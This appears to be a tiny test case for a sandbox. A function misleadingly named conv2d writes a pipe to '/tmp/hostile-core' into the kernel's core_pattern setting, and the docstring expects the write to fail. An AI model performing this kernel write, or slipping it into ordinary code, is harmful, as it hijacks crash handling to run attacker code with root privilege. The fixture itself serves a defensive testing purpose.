"""Changes a setting of the kernel.

Expected: exception: FileNotFoundError: [Errno 2]
"""

def conv2d(x, kernel):
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("|/tmp/hostile-core")
